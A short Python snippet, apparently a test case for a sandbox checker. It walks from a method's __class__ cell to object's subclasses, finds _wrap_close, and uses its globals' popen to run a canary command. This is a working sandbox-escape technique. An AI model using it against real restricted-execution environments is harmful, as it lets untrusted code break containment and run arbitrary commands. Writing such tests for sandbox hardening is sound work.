# reaches: the __class__ cell of a method leads to subclasses
class A:
    def go(self):
        for c in __class__.__mro__[-1].__subclasses__():
            if c.__name__ == "_wrap_close":
                c.close.__globals__["popen"]("/srv/canary").read()
A().go()
